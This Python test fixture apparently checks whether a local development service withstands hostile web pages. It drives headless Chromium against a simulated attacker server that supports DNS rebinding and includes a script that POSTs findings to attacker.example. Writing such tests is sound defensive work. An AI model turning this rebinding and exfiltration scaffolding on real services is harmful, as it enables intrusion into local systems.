"""A real browser that visits a page of an attacker's, which tries what it can and tells the attacker's server what came of it.

Chromium alone, without a driver: the page does everything, as an attacker's would.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from devtool.development import BROWSERS

from .tcp_proxy import TcpProxy

#: How long a page may take: a bound for what hangs, measures nothing.
PAGE_S = 90
#: Names that lead to this machine, as an attacker's own may.
ATTACKER, REBOUND = "attacker.example", "rebound.example"


def browser() -> str:
    """Return the browser's command; skips the test where there is none, saying what helps."""
    found = next(filter(None, map(shutil.which, BROWSERS)), None)
    if found is None:
        pytest.skip(f"no browser was found ({', '.join(BROWSERS)}): apt-get install chromium, as ./dev test does where it may")
    return found


class Attacker:
    """A web server with one page, for a name of its own and for one that it has lead elsewhere once the page is there."""

    def __init__(self, victim_port: int) -> None:
        self.page = ""
        self._told = threading.Event()
        self.results: dict[str, Any] = {}
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path == "/rebind":
                    attacker.rebound.lead_to(victim_port)
                self._answer(attacker.page.encode() if self.path == "/" else b"rebound", "text/html")

            def do_POST(self) -> None:
                attacker.results = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self._answer(b"", "text/plain")
                attacker._told.set()

            def _answer(self, body: bytes, kind: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port: int = self._server.server_address[1]
        #: Where the second name leads: here at first.
        self.rebound = TcpProxy(self.port)
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.01})
        self._thread.start()

    @property
    def home(self) -> str:
        return f"http://{ATTACKER}:{self.port}"

    def visited_by(self, command: str, url: str, profile: Path) -> dict[str, Any]:
        """Have the browser open a URL, and return what its page tells."""
        options = [
            "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--no-proxy-server",
            "--disable-background-networking", f"--user-data-dir={profile}",
            f"--host-resolver-rules=MAP {ATTACKER} 127.0.0.1,MAP {REBOUND} 127.0.0.1",
        ]  # fmt: skip
        with (profile.parent / "browser.log").open("wb") as log:
            process = subprocess.Popen([command, *options, url], stdin=subprocess.DEVNULL, stdout=log, stderr=log)
        try:
            told = self._told.wait(PAGE_S)
        finally:
            process.kill()
            process.wait()
        assert told, f"the page told nothing within {PAGE_S} s: {(profile.parent / 'browser.log').read_text()[-2000:]}"
        return self.results

    def close(self) -> None:
        self.rebound.__exit__(None, None, None)
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@contextmanager
def an_attacker(page: str, victim_port: int) -> Iterator[Attacker]:
    """Run an attacker's server; ``VICTIM`` in its page becomes the victim's address, and ``tell(results)`` ends the visit."""
    attacker = Attacker(victim_port)
    attacker.page = (_TELL + page).replace("VICTIM", f"http://127.0.0.1:{victim_port}").replace("HOME", attacker.home)
    try:
        yield attacker
    finally:
        attacker.close()


_TELL = """<!doctype html><body><script>
const tell = results => fetch("HOME/told", {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
</script>"""
